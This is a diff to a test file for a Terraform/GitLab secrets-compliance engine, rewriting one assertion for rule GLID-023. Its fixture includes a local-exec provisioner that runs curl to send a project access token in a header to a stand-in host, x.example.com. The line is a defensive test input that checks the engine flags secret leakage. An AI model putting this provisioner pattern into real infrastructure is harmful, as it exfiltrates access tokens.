@@ -8,6 +8,7 @@
  */
 import { diffInventories, inventoriesFromReports } from '../../../lib/core';
 import { active, check, checkStacks, compliantToken, ruleIds, stack } from './engine-fixture';
+import { mentioning } from '../../support/mentioning';
 
 const SERVICE_ACCOUNT = { gitlab_group_service_account: { sa: { group: 'acme', name: 'team-sa', username: 'acme_team-sa' } } };
 const ROTATION = { expiration_days: 90, rotate_before_days: 14 };
@@ -128,7 +129,10 @@ describe('secrets the engine cannot follow to the end are still secrets', () => 
     const report = check(stack({
       resource: { gitlab_project_access_token: { t: compliantToken({ provisioner: [{ 'local-exec': { command: 'curl -H "t: ${self.token}" https://x.example.com' } }] }) } },
     }));
-    expect(active(report, 'GLID-023').map((f) => f.message)).toEqual(['gitlab_project_access_token.t.provisioner receives the secret of gitlab_project_access_token.t.']);
+    expect(active(report, 'GLID-023').map((f) => f.message)).toEqual([
+      // The place written, then the token: it is also the start of the place, so listed twice.
+      mentioning('gitlab_project_access_token.t.provisioner', 'gitlab_project_access_token.t', 'gitlab_project_access_token.t'),
+    ]);
   });
 
   test('a group\'s runner registration token in a plain output: GLID-012', () => {
